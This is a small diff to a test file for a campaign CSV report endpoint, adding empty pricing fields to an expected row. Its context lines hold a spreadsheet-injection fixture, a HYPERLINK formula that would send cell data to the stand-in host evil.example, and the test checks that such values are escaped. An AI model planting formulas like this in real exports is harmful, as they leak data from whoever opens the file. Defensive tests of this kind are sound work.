@@ -60,6 +60,10 @@ describe('GET /v1/campaigns/:id/report.csv', () => {
       failed_at: '2026-05-01T10:00:00.000Z',
       first_name: `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
       last_name: 'Normal',
+      pricing_category: '',
+      pricing_model: '',
+      pricing_type: '',
+      billable: '',
     });
     expect(rows.slice(1, 7).map((row) => [row.first_name, row.last_name])).toEqual([
       ["'+1+1", "'-2"],
